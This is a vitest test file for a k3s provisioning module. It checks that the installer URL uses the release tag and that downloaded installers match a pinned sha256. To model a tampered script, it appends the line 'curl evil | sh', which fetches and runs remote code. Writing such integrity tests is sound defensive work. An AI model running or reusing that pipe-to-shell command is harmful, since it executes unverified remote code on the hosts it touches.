// The k3s installer runs as root on every host: it comes from the release's tag and must
// have the sha256 pinned for that release.
import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { checkK3sInstaller, k3sInstallerUrl } from "../../src/provision/ssh/k3s.ts";

describe("the k3s installer", () => {
  it("comes from the release's tag, not get.k3s.io, and must have its pinned sha256", () => {
    expect(k3sInstallerUrl("v1.33.1+k3s1")).toBe(
      "https://raw.githubusercontent.com/k3s-io/k3s/v1.33.1%2Bk3s1/install.sh",
    );
    const text = "#!/bin/sh\necho install\n";
    const hex = createHash("sha256").update(text).digest("hex");
    const pins = { "v1.33.1+k3s1": hex };
    expect(checkK3sInstaller("v1.33.1+k3s1", text, "u", undefined, pins)).toBe(text);
    expect(() =>
      checkK3sInstaller("v1.33.1+k3s1", `${text}curl evil | sh\n`, "u", undefined, pins),
    ).toThrow(`k3s installer u: checksum mismatch: expected sha256 ${hex}, got`);
    expect(() => checkK3sInstaller("v1.33.1+k3s1", "<html>", "u", undefined, pins)).toThrow(
      "not a shell script",
    );
    const said: string[] = [];
    checkK3sInstaller("v1.34.0+k3s1", text, "u", (l) => said.push(l), pins);
    expect(said).toEqual([
      `k3s v1.34.0+k3s1: installer NOT VERIFIED, no pinned sha256 (got ${hex}); pin it in src/provision/ssh/k3s.ts`,
    ]);
  });
});
